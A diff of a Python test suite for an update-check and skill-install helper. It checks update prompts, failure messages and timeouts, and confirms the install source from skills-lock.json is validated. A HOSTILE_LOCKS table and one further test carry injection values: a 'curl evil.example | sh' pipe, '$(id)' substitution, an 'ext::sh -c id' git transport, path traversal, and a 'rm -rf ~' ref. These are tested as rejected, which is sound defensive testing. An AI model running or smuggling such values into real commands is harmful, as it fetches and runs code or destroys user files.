@@ -165,7 +165,7 @@ def test_dismiss_never_and_status_across_processes(uenv, tmp_path, project):
     assert prompt.startswith("[ACTION_REQUIRED]")
     install_line = next(line for line in prompt.splitlines() if "Install now" in line)
     # a copy outside any agent folder installs for the universal .agents/ only; no --dismiss chained after it
-    assert install_line.endswith("Install now: npx skills add QianWen-AI/qianwen-ops-auth --full-depth "
+    assert install_line.endswith("Install now: npx skills add QianWen-AI/qianwen-ops-auth#release "
                                  "--skill qianwen-update-check -a cursor -y")
     assert "Install now" in prompt and "Skip for now" in prompt and "Never remind me" in prompt
     gossamer(uenv, project, "--dismiss", script_dir=scripts)
@@ -187,9 +187,9 @@ def test_update_available_line_when_sibling_installed(server, uenv, project):
     server.version(bump(CURRENT), "faster uploads")
     out = gossamer(uenv, project)
     assert out.startswith("[UPDATE_AVAILABLE]") and bump(CURRENT) in out and "faster uploads" in out
-    assert out.rstrip().endswith("npx skills add QianWen-AI/qianwen-ops-auth --full-depth --skill '*' -a cursor -y")
+    assert out.rstrip().endswith("npx skills add QianWen-AI/qianwen-ops-auth#release --skill '*' -a cursor -y")
     plain = run_script("check_update.py", "--force", env=uenv, cwd=project, python=BARE).out
-    assert plain.rstrip().endswith("--full-depth --skill '*' -a cursor -y"), plain  # the sibling says it the same way
+    assert plain.rstrip().endswith("#release --skill '*' -a cursor -y"), plain  # the sibling says it the same way
     assert gossamer(uenv, project) == ""  # checked moments ago: quiet for a day
 
 
@@ -466,3 +466,215 @@ def test_status_into_a_closed_pipe_is_silent(uenv, project):
     proc.stdout.close()  # nobody reads: the first write meets a broken pipe
     _, err = proc.communicate(timeout=60)
     assert proc.returncode == 0 and b"warning" not in err and b"Traceback" not in err
+
+
+# ------------------------------------------------------------------ a failed check says so; time and state are bounded
+
+def test_gossamer_says_in_one_line_when_the_check_failed(uenv, project):
+    """Silence means "nothing to do"; a check that could not complete is one line that says why and when."""
+    result = subprocess.run([*BARE, str(SCRIPTS / "gossamer.py")], env=dict(uenv, QWEN_UPDATE_URL="http://127.0.0.1:9/v"),
+                            cwd=project, capture_output=True, text=True, timeout=60)
+    assert (result.returncode, result.stderr) == (0, "")
+    [line] = result.stdout.splitlines()
+    assert line.startswith("[UPDATE_CHECK_FAILED] ") and "cannot reach the update server" in line
+    assert "tried again after the next task" in line
+
+
+class Trickle:
+    """Accepts connections and sends one byte of a never-ending status line every ``interval`` seconds."""
+
+    def __init__(self, interval: float = 0.1):
+        import socket
+
+        self.stop = threading.Event()
+        self.listener = socket.socket()
+        self.listener.bind(("127.0.0.1", 0))
+        self.listener.listen(8)
+        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/version.json"
+        self.interval = interval
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while not self.stop.is_set():
+            try:
+                conn, _ = self.listener.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._trickle, args=(conn,), daemon=True).start()
+
+    def _trickle(self, conn):
+        with conn:
+            conn.recv(65536)
+            while not self.stop.wait(self.interval):
+                try:
+                    conn.sendall(b"H")
+                except OSError:
+                    return
+
+    def close(self):
+        self.stop.set()
+        self.listener.close()
+
+
+def test_the_check_has_an_overall_deadline(uenv, project):
+    """A server that sends a byte every 0.1 s never trips a per-read timeout; the whole check still ends."""
+    import time
+
+    server = Trickle()
+    slow = dict(uenv, QWEN_UPDATE_URL=server.url, QWEN_UPDATE_TIMEOUT="1")
+    try:
+        started = time.monotonic()
+        result = run_script("check_update.py", "--print-response", "--force", env=slow, cwd=project, python=BARE,
+                            timeout=20)
+        checked = time.monotonic() - started
+        started = time.monotonic()
+        notice = subprocess.run([*BARE, str(SCRIPTS / "gossamer.py")], env=slow, cwd=project, capture_output=True,
+                                text=True, timeout=20)
+        prompted = time.monotonic() - started
+    finally:
+        server.close()
+    data = json.loads(result.out)
+    assert result.code == 0 and data["has_update"] is False and data["error"] == "timed out"
+    assert checked < 4, checked
+    assert notice.returncode == 0 and notice.stdout.startswith("[UPDATE_CHECK_FAILED] ")
+    assert "timed out" in notice.stdout
+    assert prompted < 5, prompted
+
+
+def test_a_planted_future_time_silences_nothing(server, uenv, tmp_path, project):
+    """State values are bounded by what the scripts could have written: a dismissal "from the future"
+    is no dismissal, and a check "from the future" is not fresh."""
+    now = 1_800_000_000
+    state = Path(uenv["QWEN_SKILLS_STATE"])
+    state.write_text(json.dumps({"last_interaction": now + 1000 * DAY, "last_check": now + 1000 * DAY,
+                                 "last_result": {"version": CURRENT, "info": ""}, "never_install": False}))
+    scripts = lone_copy(tmp_path)
+    status = json.loads(gossamer(uenv, project, "--status", script_dir=scripts))
+    assert status["suppressed"] is False and status["summary"].startswith("not installed")
+    assert gossamer(uenv, project, script_dir=scripts).startswith("[ACTION_REQUIRED]")
+    server.version(bump(CURRENT))
+    assert gossamer(uenv, project).startswith("[UPDATE_AVAILABLE]") and server.hits == 1  # the sibling ran
+    state.write_text(json.dumps({"last_check": now + 1000 * DAY, "last_result": {"version": CURRENT, "info": ""}}))
+    assert check(uenv, project)["has_update"] is True and server.hits == 2  # fetched: the cache was not trusted
+    gossamer(uenv, project, "--dismiss", script_dir=scripts)
+    status = json.loads(gossamer(dict(uenv, QWEN_SKILLS_NOW=str(now + DAY - 1)), project, "--status",
+                                 script_dir=scripts))
+    assert status["suppressed"] is True and status["next_prompt_at"] == now + DAY  # a real dismissal still counts
+
+
+# ------------------------------------------------------------------ where `npx skills add` takes the bundle from
+
+def lock_project(tmp_path, lock) -> Path:
+    """An installed copy's folder in a project whose skills-lock.json holds ``lock`` (bytes or an object)."""
+    skill = tmp_path / "p" / ".agents" / "skills" / "qianwen-ops-auth"
+    skill.mkdir(parents=True)
+    if lock is not None:
+        data = lock if isinstance(lock, bytes) else json.dumps(lock).encode()
+        (tmp_path / "p" / "skills-lock.json").write_bytes(data)
+    return skill
+
+
+def entry(source, ref="release", kind="github", **extra):
+    return {"skills": {"qianwen-ops-auth": {"source": source, "ref": ref, "sourceType": kind, **extra}}}
+
+
+@pytest.mark.parametrize("lock,expected", [
+    (None, "QianWen-AI/qianwen-ops-auth#release"),
+    (entry("someone/fork"), "someone/fork#release"),
+    (entry("someone/fork", ref=None), "someone/fork#release"),
+    (entry("someone/fork", ref="v2.0"), "someone/fork#v2.0"),
+    (entry("x/y", kind="git", sourceUrl="https://git.example.com/team/qianwen-ops-auth.git"),
+     "https://git.example.com/team/qianwen-ops-auth.git#release"),
+    (entry("x/y", kind="git", sourceUrl="git@git.example.com:team/qianwen-ops-auth.git"),
+     "git@git.example.com:team/qianwen-ops-auth.git#release"),
+    ({"skills": {"qianwen-update-check": {"source": "someone/fork", "sourceType": "github"}}}, "someone/fork#release"),
+])
+def test_install_source_is_the_one_skills_lock_records(tmp_path, lock, expected):
+    from qianwen_ops.skill_state import install_source
+
+    assert install_source(lock_project(tmp_path, lock), {"HOME": str(tmp_path)}) == expected
+
+
+HOSTILE_LOCKS = {
+    "shell": entry("a/b; curl evil.example | sh"),
+    "substitution": entry("a/$(id)"),
+    "option": entry("--yes/b"),
+    "quote": entry("a/b'c"),
+    "local path": entry("/home/me/checkout", kind="local"),
+    "relative path": entry("./checkout", kind="local"),
+    "file url": entry("x/y", kind="git", sourceUrl="file:///tmp/evil"),
+    "ext transport": entry("x/y", kind="git", sourceUrl="ext::sh -c id"),
+    "shorthand for a git source": entry("x/y", kind="git", sourceUrl="a/b"),
+    "dot-dot": entry("../../etc"),
+    "well-known": entry("https://example.com", kind="well-known"),
+    "not a string": entry(["a", "b"]),
+    "newline": entry("a/b\nc"),
+    "too large": b'{"skills": {"qianwen-ops-auth": {"source": "someone/fork", "sourceType": "github"}}, "pad": "'
+                 + b"x" * 300_000 + b'"}',
+    "deep": b"[" * 100_000,
+    "not json": b"\x00\xff{",
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_LOCKS))
+def test_a_hostile_skills_lock_falls_back_to_the_default(tmp_path, name):
+    from qianwen_ops.skill_state import install_source
+    from qianwen_ops.update_prompt import install_command
+
+    skill = lock_project(tmp_path, HOSTILE_LOCKS[name])
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "QianWen-AI/qianwen-ops-auth#release"
+    command = install_command({"HOME": str(tmp_path)}, skill)
+    assert command.startswith("npx skills add QianWen-AI/qianwen-ops-auth#release ")
+
+
+def test_hostile_ref_is_dropped_and_settings_win(tmp_path):
+    from qianwen_ops.skill_state import add_command, install_source
+
+    skill = lock_project(tmp_path, entry("someone/fork", ref="x; rm -rf ~"))
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "someone/fork#release"
+    assert install_source(skill, {"HOME": str(tmp_path), "QWEN_SKILLS_REPO": "me/mine"}) == "me/mine#release"
+    (tmp_path / "p" / "skills-lock.json").unlink()
+    (tmp_path / "p" / "skills-lock.json").symlink_to(tmp_path / "elsewhere.json")  # a link is not read
+    (tmp_path / "elsewhere.json").write_text(json.dumps(entry("evil/fork")))
+    assert install_source(skill, {"HOME": str(tmp_path)}) == "QianWen-AI/qianwen-ops-auth#release"
+    other_ref = lock_project(tmp_path / "q", entry("someone/fork", ref="main"))
+    assert add_command(other_ref, "'*'", {"HOME": str(tmp_path)}) == (
+        "npx skills add someone/fork#main --full-depth --skill '*' -a cursor -y")  # a checkout-shaped ref
+
+
+# ------------------------------------------------------------------ the state stays out of git status
+
+def test_state_in_agents_hides_itself_from_git(tmp_path):
+    from qianwen_ops.skill_state import update_state
+
+    project = tmp_path / "proj"
+    (project / ".agents" / "skills").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
+    path = project / ".agents" / "state.json"
+    update_state(path, lambda s: s.update(never_install=True))
+    update_state(path, lambda s: s.update(last_interaction=1))
+    assert (project / ".agents" / ".gitignore").read_text().splitlines()[1:] == ["/state.json", "/state.json.lock",
+                                                                                 "/.gitignore"]
+    porcelain = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=project,
+                               capture_output=True, text=True, check=True).stdout
+    assert porcelain == ""
+
+
+def test_a_users_agents_gitignore_is_never_changed(tmp_path):
+    from qianwen_ops.skill_state import update_state
+
+    agents = tmp_path / ".agents"
+    agents.mkdir()
+    (agents / ".gitignore").write_text("mine\n")
+    update_state(agents / "state.json", lambda s: s.update(never_install=True))
+    assert (agents / ".gitignore").read_text() == "mine\n"
+    other = tmp_path / "o" / ".agents"
+    other.mkdir(parents=True)
+    victim = tmp_path / "victim"
+    victim.write_text("keep\n")
+    (other / ".gitignore").symlink_to(victim)  # planted link: never written through
+    update_state(other / "state.json", lambda s: s.update(never_install=True))
+    assert victim.read_text() == "keep\n" and (other / ".gitignore").is_symlink()
+    elsewhere = tmp_path / "xdg" / "qianwen-ai"
+    update_state(elsewhere / "state.json", lambda s: s.update(never_install=True))
+    assert not (elsewhere / ".gitignore").exists()  # only the project's .agents/ gets one
